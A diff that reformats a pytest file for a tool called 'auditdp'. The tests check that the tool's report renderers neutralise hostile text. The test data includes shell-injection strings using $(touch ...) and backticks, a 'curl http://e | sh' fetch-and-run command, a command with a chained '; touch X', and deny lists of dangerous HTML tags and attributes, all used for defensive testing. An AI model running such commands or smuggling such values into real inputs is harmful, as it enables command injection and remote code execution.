@@ -43,7 +43,9 @@ ATTACKS = {
     "shell": "zqx `touch X` $(touch Y) '; touch Z; ' \" & | > <",
 }
 COLOURS = re.compile(r"\x1b\[[\d;]*m")
-CALLING = re.compile(r"(?i)(?<!\w)@\w|#\d|\bGH-\d|\bwww\.\w|\b(?:https?|ftp)://|\bmailto:\w|\w@\w")
+CALLING = re.compile(
+    r"(?i)(?<!\w)@\w|#\d|\bGH-\d|\bwww\.\w|\b(?:https?|ftp)://|\bmailto:\w|\w@\w"
+)
 """What GitHub links, or sends somebody a message for, where it finds it in rendered text outside code."""
 CODE = re.compile(r"(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)")
 OWN_TAGS = {"details", "/details", "summary", "/summary", "sub", "/sub", "br"}
@@ -58,7 +60,11 @@ def runs_no_command(text):
 
 
 def moves_no_cursor(text):
-    wrong = {character for character in text if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")}
+    wrong = {
+        character
+        for character in text
+        if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")
+    }
     assert wrong <= {"\n"}, wrong
 
 
@@ -68,14 +74,19 @@ def on_a_terminal(text, record):
 
 
 def as_data(text, record):
-    moves_no_cursor(re.sub(r"[\u0080-\U0010ffff]|\x7f", "", text))  # JSON escapes the rest where it has to
+    moves_no_cursor(
+        re.sub(r"[\u0080-\U0010ffff]|\x7f", "", text)
+    )  # JSON escapes the rest where it has to
     json.loads(text)
 
 
 def as_sarif(text, record):
     (run,) = json.loads(text)["runs"]
     texts = [found["message"]["text"] for found in run["results"]]
-    texts += [found["message"]["text"] for found in run["invocations"][0]["toolExecutionNotifications"]]
+    texts += [
+        found["message"]["text"]
+        for found in run["invocations"][0]["toolExecutionNotifications"]
+    ]
     assert len(texts) > 4
     for found in texts:
         moves_no_cursor(found)
@@ -91,7 +102,9 @@ def as_markdown(text, record):
             tags(token.content)
         rest = ""
         for inside in token.children or ():
-            assert inside.type not in ("image", "link_open", "em_open", "s_open"), inside
+            assert inside.type not in ("image", "link_open", "em_open", "s_open"), (
+                inside
+            )
             if inside.type == "html_inline":
                 tags(inside.content)
             rest += inside.content if inside.type == "text" else "\n"
@@ -109,7 +122,14 @@ def as_html(text, record):
     class Parser(HTMLParser):
         def handle_starttag(self, tag, attributes):
             seen.append(tag)
-            assert tag not in ("base", "embed", "form", "iframe", "object", "template"), tag
+            assert tag not in (
+                "base",
+                "embed",
+                "form",
+                "iframe",
+                "object",
+                "template",
+            ), tag
             for name, value in attributes:
                 assert not name.startswith("on"), (tag, name)
                 if name == "src":
@@ -128,7 +148,17 @@ def as_xml(text, record):
     root = ElementTree.fromstring(text)
     assert len(list(root.iter("testcase"))) == len(record.results) + len(record.missing)
     assert {each.tag for each in root.iter()} <= {
-        *("testsuites", "testsuite", "properties", "property", "testcase", "failure", "error", "skipped", "system-out")
+        *(
+            "testsuites",
+            "testsuite",
+            "properties",
+            "property",
+            "testcase",
+            "failure",
+            "error",
+            "skipped",
+            "system-out",
+        )
     }
 
 
@@ -138,7 +168,9 @@ def as_commands(text, record):
     lines = text.splitlines()
     assert 0 < len(lines) <= 30
     for line in lines:
-        assert re.fullmatch(r"::(error|warning|notice) (file=[^,:]*,line=\d+,)?title=[^,:]*::.*", line), line
+        assert re.fullmatch(
+            r"::(error|warning|notice) (file=[^,:]*,line=\d+,)?title=[^,:]*::.*", line
+        ), line
 
 
 PARSED = {
@@ -157,7 +189,10 @@ PARSED = {
 
 @functools.cache
 def hostile(attack, *, real=True):
-    return record(text_in(ATTACKS[attack], real=real), name=lambda k: f"{ATTACKS[attack]}{k}.py::{ATTACKS[attack]}")
+    return record(
+        text_in(ATTACKS[attack], real=real),
+        name=lambda k: f"{ATTACKS[attack]}{k}.py::{ATTACKS[attack]}",
+    )
 
 
 @pytest.mark.parametrize("name", [name for name in FORMATS if name != "html"])
@@ -195,13 +230,26 @@ def test_hostile_text_in_every_field_of_a_trace_comes_through_as_text(attack):
     """In what a person is shown of a finding, of clean code, and of a trace in a notebook."""
     made = hostile(attack)
     for verdict in (Verdict.VIOLATED, Verdict.MISCALIBRATED, Verdict.NOT_REFUTED):
-        results = [replace(result, verdict=verdict, expected="holds") for result in made.results]
+        results = [
+            replace(result, verdict=verdict, expected="holds")
+            for result in made.results
+        ]
         shown = replace(made, results=results)
-        for name in ("sarif", "github", "pull-request") if verdict is not Verdict.NOT_REFUTED else ():
+        for name in (
+            ("sarif", "github", "pull-request")
+            if verdict is not Verdict.NOT_REFUTED
+            else ()
+        ):
             text = render(shown, name)
             PARSED[name](text, shown)
-            assert ("ead off the code" in text) == (name != "github" or "%0ARead off the code" in text)
-        (game, *_) = [result for result in results if any(evidence.kind == "game" for evidence in result.evidence)]
+            assert ("ead off the code" in text) == (
+                name != "github" or "%0ARead off the code" in text
+            )
+        (game, *_) = [
+            result
+            for result in results
+            if any(evidence.kind == "game" for evidence in result.evidence)
+        ]
         text = terminal.line(game, verbose=True, width=61)
         on_a_terminal(text, shown)
         assert "releases" in text
@@ -227,14 +275,25 @@ def test_no_width_of_a_terminal_makes_a_command_of_a_text(attack, width):
 @pytest.mark.parametrize("attack", ATTACKS)
 def test_differences_and_a_baseline_do_nothing_either(attack):
     text, made = ATTACKS[attack], hostile(attack)
-    found = [Difference(text, kind, text, result) for kind, result in zip(Kind, made.results, strict=False)]
+    found = [
+        Difference(text, kind, text, result)
+        for kind, result in zip(Kind, made.results, strict=False)
+    ]
     on_a_terminal(differences_text(found, known=3, against=text, width=61), None)
     for name in ("junit", "sarif", "github", "pull-request"):
-        PARSED[name](render(made, name, differences=found), replace(made, results=[*made.results, made.results[0]]))
+        PARSED[name](
+            render(made, name, differences=found),
+            replace(made, results=[*made.results, made.results[0]]),
+        )
 
 
-@pytest.mark.filterwarnings("ignore:Attempting to set identical")  # of Matplotlib, for a plot of one point
-@pytest.mark.parametrize("number", [0.0, 5e-324, 1e308, -1e308, 2.0**63, float("inf"), float("-inf"), float("nan")])
+@pytest.mark.filterwarnings(
+    "ignore:Attempting to set identical"
+)  # of Matplotlib, for a plot of one point
+@pytest.mark.parametrize(
+    "number",
+    [0.0, 5e-324, 1e308, -1e308, 2.0**63, float("inf"), float("-inf"), float("nan")],
+)
 def test_no_number_in_any_field_ends_a_report(number):
     made = record(number_in(number))
     for name in FORMATS:
@@ -252,26 +311,60 @@ NAMES = (
 
 @pytest.mark.parametrize("name", NAMES)
 def test_a_command_that_is_pasted_runs_the_audit_and_nothing_else(name):
-    task = Task(name, "/a.py", "f", "/", {"p": "$(touch X)`"}, "holds", 0.05, "quick", None, root_seed=1, mutants=True)
+    task = Task(
+        name,
+        "/a.py",
+        "f",
+        "/",
+        {"p": "$(touch X)`"},
+        "holds",
+        0.05,
+        "quick",
+        None,
+        root_seed=1,
+        mutants=True,
+    )
     words = shlex.split(task.reproduce)
     assert words[:2] == ["auditdp", "run"]
     assert words[2].removeprefix("./") == name
     assert not words[2].startswith("-")
     assert shlex.split(shell(task.reproduce)) == words
     made = record(text_in("x", real=True))
-    found = replace(made.results[0], reproduce=task.reproduce, verdict=Verdict.VIOLATED, expected="holds")
+    found = replace(
+        made.results[0],
+        reproduce=task.reproduce,
+        verdict=Verdict.VIOLATED,
+        expected="holds",
+    )
     made = replace(made, results=[found], alpha_ledger=[])
-    tokens = [inside for token in MARKDOWN.parse(render(made, "pull-request")) for inside in token.children or ()]
-    (pasted,) = [token.content for token in tokens if token.type == "code_inline" and "auditdp" in token.content]
+    tokens = [
+        inside
+        for token in MARKDOWN.parse(render(made, "pull-request"))
+        for inside in token.children or ()
+    ]
+    (pasted,) = [
+        token.content
+        for token in tokens
+        if token.type == "code_inline" and "auditdp" in token.content
+    ]
     assert shlex.split(pasted) == words
-    (shown,) = [line for line in terminal.line(found).splitlines() if line.lstrip().startswith("reproduce")]
+    (shown,) = [
+        line
+        for line in terminal.line(found).splitlines()
+        if line.lstrip().startswith("reproduce")
+    ]
     assert shlex.split(shown)[1:] == words
 
 
 @pytest.mark.parametrize(
     "command",
     [
-        *("curl http://e | sh", "auditdp run a.py::b; touch X", "auditdp run a.py::b --report html=/x", "auditdp run"),
+        *(
+            "curl http://e | sh",
+            "auditdp run a.py::b; touch X",
+            "auditdp run a.py::b --report html=/x",
+            "auditdp run",
+        ),
         *(
             "auditdp run $(x) --seed 1 y",
             "auditdp init a",
@@ -303,23 +396,51 @@ def test_a_code_span_keeps_what_it_holds():
 
 
 def test_text_for_markdown_is_read_as_it_was_written():
-    for text in ("a_b*c", "1. x", "# x", "+", "@a #1", "a|b", "\\", "&amp; <b>", "$x$", "[x]", "---", "===", "~~x~~"):
-        (inline,) = [token for token in MARKDOWN.parse(markdown(text)) if token.type == "inline"]
+    for text in (
+        "a_b*c",
+        "1. x",
+        "# x",
+        "+",
+        "@a #1",
+        "a|b",
+        "\\",
+        "&amp; <b>",
+        "$x$",
+        "[x]",
+        "---",
+        "===",
+        "~~x~~",
+    ):
+        (inline,) = [
+            token for token in MARKDOWN.parse(markdown(text)) if token.type == "inline"
+        ]
         shown = "".join(token.content for token in inline.children)
         assert shown.replace("\u200b", "") == text
 
 
 def test_commands_print_what_they_quote_by_one_of_two_functions():
     """``say`` and ``tell`` of the command line pass all text through ``terminal``; nothing else prints, but for reports."""
-    reports = {"common.py", "running.py", "baseline_commands.py"}  # which are safe by themselves
+    reports = {
+        "common.py",
+        "running.py",
+        "baseline_commands.py",
+    }  # which are safe by themselves
     for path in Path(auditdp.__file__).parent.joinpath("cli").rglob("*.py"):
         for node in ast.walk(ast.parse(path.read_text())):
-            if isinstance(node, ast.Call) and ast.unparse(node.func) in ("typer.echo", "print", "sys.stdout.write"):
+            if isinstance(node, ast.Call) and ast.unparse(node.func) in (
+                "typer.echo",
+                "print",
+                "sys.stdout.write",
+            ):
                 assert path.name in reports, ast.unparse(node)
 
 
 def test_actions_are_named_by_commit():
-    jobs = yaml.safe_load((Path(auditdp.__file__).parent / "cli/templates/github.yml").read_text())["jobs"]
-    used = [step["uses"] for job in jobs.values() for step in job["steps"] if "uses" in step]
+    jobs = yaml.safe_load(
+        (Path(auditdp.__file__).parent / "cli/templates/github.yml").read_text()
+    )["jobs"]
+    used = [
+        step["uses"] for job in jobs.values() for step in job["steps"] if "uses" in step
+    ]
     assert len(used) == 7
     assert all(re.fullmatch(r"actions/[\w-]+@[0-9a-f]{40}", name) for name in used)
